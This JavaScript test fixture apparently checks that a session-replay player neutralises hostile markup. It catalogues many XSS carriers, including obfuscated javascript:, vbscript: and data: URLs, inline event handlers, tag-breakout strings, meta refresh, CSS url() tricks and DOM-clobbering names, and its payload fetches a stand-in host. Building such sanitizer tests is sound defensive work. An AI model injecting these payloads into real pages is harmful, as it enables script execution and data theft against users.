// Elements and attributes that ask for something, run something, or take what is the app's.

import { add, counter, documentOf, element, mutation, svg, text, visit } from './page.mjs'

const RUN = 'top.owned = parent.owned = true; fetch("http://run.test/")'
const SCRIPT_ADDRESSES = [`javascript:${RUN}`, ` \tjava\nscript:${RUN}`, `\u0001javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `&#106;avascript:${RUN}`, `vbscript:${RUN}`, `data:text/html,<script>${RUN}</script>`]

/** Tag, attributes by address, kind (`svg`), children. */
const CARRIERS = [
  ...['preconnect', 'dns-prefetch', 'stylesheet', 'prefetch', 'modulepreload', 'prerender', 'icon', 'apple-touch-icon', 'mask-icon', 'manifest', 'pingback', 'search', 'compression-dictionary', 'monetization', 'import', 'expect'].map((rel) => ['link', (to) => ({ rel, href: to(rel), crossorigin: '', as: 'script' })]),
  ...['image', 'style', 'font', 'fetch', 'track', 'script'].map((as) => ['link', (to) => ({ rel: 'preload', as, href: to(`preload ${as}`), imagesrcset: `${to(`imagesrcset ${as}`)} 1x`, imagesizes: '1px' })]),
  ['LINK', (to) => ({ REL: 'StyleSheet', HREF: to('capitals') })],
  ['link', (to) => ({ rel: 'stylesheet', href: `#`, 'xlink:href': to('xlink') })],
  ...['refresh', 'Refresh', 'set-cookie', 'Content-Security-Policy', 'default-style', 'x-dns-prefetch-control', 'Link', 'origin-trial', 'accept-ch', 'delegate-ch'].map((kind) => ['meta', (to) => ({ 'http-equiv': kind, content: kind.toLowerCase() === 'refresh' ? `0; url=${to('refresh')}` : `on; default-src 'none'; report-uri ${to('report')}; stolen=1` })]),
  ['META', (to) => ({ 'HTTP-EQUIV': 'refresh', CONTENT: `0;URL='${to('capital refresh')}'` })],
  ['base', (to) => ({ href: to('base/'), target: '_top' })], ['base', () => ({ href: '#x', target: '_parent' })],
  ['iframe', (to) => ({ src: to('frame'), rr_src: to('frame'), name: '_top' })], ['iframe', (to) => ({ srcdoc: `<script>${RUN}</script><img src="${to('srcdoc')}">`, name: 'cassette' })],
  ['iframe', () => ({ sandbox: '', csp: "script-src *", allow: 'fullscreen; camera', allowfullscreen: '' })], ['frame', (to) => ({ src: to('old frame') })],
  ['object', (to) => ({ data: to('object'), type: 'text/html', codebase: to('codebase'), classid: to('classid'), archive: to('archive') })], ['object', () => ({ data: `data:text/html,<script>${RUN}</script>` })],
  ['embed', (to) => ({ src: to('embed'), type: 'image/svg+xml' })], ['applet', (to) => ({ code: to('code'), archive: to('applet'), object: to('o') })], ['param', (to) => ({ name: 'movie', value: to('movie') })],
  ['portal', (to) => ({ src: to('portal') })], ['fencedframe', (to) => ({ src: to('fenced'), config: to('config') })], ['webview', (to) => ({ src: to('webview') })],
  ['img', (to) => ({ src: to('img'), srcset: `${to('srcset')} 1x, ${to('srcset2')} 2x`, lowsrc: to('lowsrc'), dynsrc: to('dynsrc'), longdesc: to('longdesc'), attributionsrc: to('attribution'), loading: 'eager', onerror: RUN, onload: RUN })],
  ['image', (to) => ({ src: to('image') })], ['IMG', (to) => ({ SRC: to('IMG'), SrcSet: to('SrcSet') })], ['img', (to) => ({ rr_dataURL: to('dataurl'), src: 'data:,' })],
  ['img', (to) => ({ srcset: `data:,x 1x, ${to('second of a set')} 2x` })], ['img', (to) => ({ srcset: `data:,x, ${to('second behind a comma')}` })], ['img', () => ({ src: '#own' })], ['img', () => ({ src: '' })],
  ['img', (to) => ({ src: `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><image href="${to('svg in data')}"/><script>${RUN}</script></svg>`)}` })],
  ['picture', () => ({}), '', (to) => [['source', { srcset: to('source'), media: 'all', type: 'image/png' }], ['img', { alt: 'x' }]]],
  ['video', (to) => ({ src: to('video'), poster: to('poster'), autoplay: '', preload: 'auto', rr_mediaState: 'played', rr_mediaCurrentTime: 5 }), '', (to) => [['source', { src: to('film') }], ['track', { src: to('track'), default: '', kind: 'captions' }]]],
  ['audio', (to) => ({ src: to('audio'), autoplay: '', preload: 'auto', rr_mediaState: 'played' })], ['bgsound', (to) => ({ src: to('bgsound') })],
  ['input', (to) => ({ type: 'image', src: to('input'), formaction: to('formaction'), autofocus: '' })], ['button', (to) => ({ formaction: to('formaction'), autofocus: '', accesskey: 'x', popovertarget: 'pop', form: 'f', type: 'submit' })],
  ['form', (to) => ({ action: to('form'), target: '_top', id: 'f' })], ['isindex', (to) => ({ action: to('isindex'), prompt: 'x' })],
  ...SCRIPT_ADDRESSES.flatMap((href) => [['a', () => ({ href, target: '_top', accesskey: 'y', ping: 'http://ping.test/', attributionsrc: 'http://attribution.test/' })], ['iframe', () => ({ src: href })], ['form', () => ({ action: href })], ['a', () => ({ 'xlink:href': href }), 'svg'], ['img', () => ({ src: href })], ['use', () => ({ href }), 'svg'], ['animate', () => ({ attributeName: 'href', values: href, begin: '0s', dur: '1s' }), 'svg']]),
  ['table', (to) => ({ background: to('table') })], ['td', (to) => ({ background: to('td') })], ['body', (to) => ({ background: to('body') })],
  ['script', (to) => ({ src: to('script') }), '', () => RUN], ['SCRIPT', (to) => ({ SRC: to('SCRIPT'), type: 'module' }), '', () => RUN], ['script', (to) => ({ href: to('svg script') }), 'svg', () => RUN], ['svg:script', (to) => ({ href: to('named svg script') }), 'svg', () => RUN],
  ['script', () => ({ type: 'speculationrules' }), '', (to) => JSON.stringify({ prefetch: [{ source: 'list', urls: [to('speculation')] }], prerender: [{ source: 'list', urls: [to('prerendering')] }] })],
  ['SCRIPT', () => ({ type: 'importmap' }), '', (to) => JSON.stringify({ imports: { x: to('importmap') } })],
  ...['noscript', 'template', 'xmp', 'plaintext', 'textarea', 'title', 'noembed', 'noframes', 'listing'].map((tag) => [tag, () => ({}), '', (to) => `</${tag}></style></script><script>${RUN}</script><img src="${to(`text of ${tag}`)}" onerror="${RUN}">`]),
  ['div', (to) => ({ style: `background: url(${to('style')}); cursor: url('${to('cursor')}'), auto; list-style: image-set("${to('set')}" 1x); mask: u\\72l(${to('mask')}); behavior: url(${to('behavior')}); -moz-binding: url(${to('binding')}#x)` })],
  ['div', (to) => ({ STYLE: `background:url(${to('STYLE')})` })], ['div', (to) => ({ style: { background: `url(${to('style object')})` } })],
  ['div', () => ({ ONCLICK: RUN, OnMouseOver: RUN, onfocus: RUN, onanimationstart: RUN, onscroll: RUN, tabindex: '0', autofocus: '', contenteditable: 'true', style: 'animation: k 1s' })],
  ['details', () => ({ open: '', ontoggle: RUN, name: 'x' })], ['dialog', () => ({ open: '', rr_open_mode: 'modal', oncancel: RUN, autofocus: '' }), '', () => 'modal'], ['div', () => ({ popover: 'auto', id: 'pop', onbeforetoggle: RUN })], ['marquee', () => ({ onstart: RUN, loop: '1' }), '', () => 'm'], ['svg', () => ({ onload: RUN, onbegin: RUN }), 'svg'], ['body', () => ({ onload: RUN, onpageshow: RUN, onhashchange: RUN })],
  ['image', (to) => ({ href: to('svg image'), 'xlink:href': to('svg xlink'), width: '9', height: '9' }), 'svg'], ['svg:image', (to) => ({ href: to('named image'), width: '9', height: '9' }), 'svg'], ['image', () => ({ href: '#part', width: '9', height: '9' }), 'svg'], ['image', () => ({ 'xlink:href': ' #part8', width: '9', height: '9' }), 'svg'],
  ['use', (to) => ({ href: `${to('use')}#a` }), 'svg'], ['use', () => ({ 'xlink:href': `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" id="x"><script>${RUN}</script></svg>#x` }), 'svg'],
  ['filter', () => ({ id: 'ff' }), 'svg', (to) => [['feImage', { href: to('feimage') }, 'svg'], ['feImage', { href: '#part' }, 'svg']]], ['rect', () => ({ width: '5', height: '5', filter: 'url(#ff)' }), 'svg'],
  ['rect', (to) => ({ width: '5', height: '5', fill: `url(${to('fill')}#a)`, stroke: `url("${to('stroke')}")`, filter: `url(${to('filter')})`, mask: `url(${to('svg mask')})`, 'clip-path': `url(${to('clip')})`, cursor: `url(${to('svg cursor')}),auto`, 'marker-start': `url(${to('marker')})` }), 'svg'],
  ['image', () => ({ width: '9', height: '9' }), 'svg', (to) => [['set', { attributeName: 'href', to: to('set href'), begin: '0s' }, 'svg'], ['animate', { attributeName: 'xlink:href', values: `${to('animate')};${to('animate2')}`, dur: '1s' }, 'svg'], ['animate', { attributeName: ' HREF ', from: to('from'), to: to('to'), dur: '1s' }, 'svg']]],
  ['rect', () => ({ width: '5', height: '5' }), 'svg', (to) => [['set', { attributeName: 'fill', to: `url(${to('set fill')}#x)` }, 'svg'], ['set', { attributeName: 'style', to: `fill:url(${to('set style')})` }, 'svg'], ['animate', { attributeName: 'mask', values: `none;url(${to('values')}#x)`, dur: '1s' }, 'svg']]],
  ['foreignObject', () => ({ width: '9', height: '9' }), 'svg', (to) => [['img', { src: to('foreign') }], ['iframe', { src: to('foreign frame') }]]], ['pattern', (to) => ({ href: to('pattern') }), 'svg'], ['mpath', (to) => ({ href: to('mpath') }), 'svg'], ['textPath', (to) => ({ href: to('textPath') }), 'svg'], ['font-face-uri', (to) => ({ href: to('font-face-uri') }), 'svg'], ['color-profile', (to) => ({ 'xlink:href': to('color-profile') }), 'svg'], ['tref', (to) => ({ 'xlink:href': to('tref') }), 'svg'],
  ['math', (to) => ({ href: to('math') }), '', (to) => [['maction', { actiontype: 'statusline', href: to('maction'), 'xlink:href': `javascript:${RUN}` }], ['annotation-xml', { encoding: 'text/html', src: to('annotation') }]]],
  ['canvas', (to) => ({ rr_dataURL: to('canvas'), width: '9', height: '9' })], ['x-bad', (to) => ({ is: 'x', src: to('custom') })],
  ['a', (to) => ({ href: to('plain link'), target: '_top', rel: 'prefetch opener', download: 'x' }), '', () => 'a link'], ['area', (to) => ({ href: to('area'), ping: to('area ping') })],
  ['div', () => ({ id: 'cassette', name: 'cassette' })], ['form', () => ({ id: 'document', name: 'body' })], ['img', () => ({ id: 'location', name: 'getElementById', alt: '' })], ['iframe', () => ({ name: 'owned' })],
]

function built(to, next) {
  const make = (tag, attributes, kind, inside) => {
    const children = typeof inside === 'string' ? [text(next(), inside)] : (inside ?? []).map(([tag, attributes, kind]) => make(tag, attributes, kind))
    return kind === 'svg' ? svg(next(), tag, attributes, children) : element(next(), tag, attributes, children)
  }
  return CARRIERS.map(([tag, attributes, kind, inside]) => {
    const node = make(tag, attributes(to), kind, inside?.(to))
    return kind === 'svg' && tag !== 'svg' ? svg(next(), 'svg', { width: '20', height: '20' }, [node]) : node
  })
}

export function elementsAtFirst(to) {
  return visit(documentOf([], built((name) => to(`first ${name}`), counter(100))))
}

/** Added one by one, as changes do it, then given their attributes once more. */
export function elementsLater(to) {
  const flat = (parent, node) => [add(parent, { ...node, ...(node.childNodes && { childNodes: [] }) }), ...(node.childNodes ?? []).flatMap((child) => flat(node.id, child))]
  const nodes = built((name) => to(`later ${name}`), counter(5000))
  const adds = nodes.flatMap((node) => flat(4, node))
  const all = (node) => [node, ...(node.childNodes ?? []).flatMap(all)]
  const changed = built((name) => to(`changed ${name}`), counter(5000)).flatMap(all).filter(({ attributes }) => attributes)
  return visit(documentOf(), [mutation(300, { adds }), mutation(600, { attributes: changed.map(({ id, attributes }) => ({ id, attributes })) }), mutation(900, { removes: nodes.slice(0, 5).map(({ id }) => ({ parentId: 4, id })) })])
}
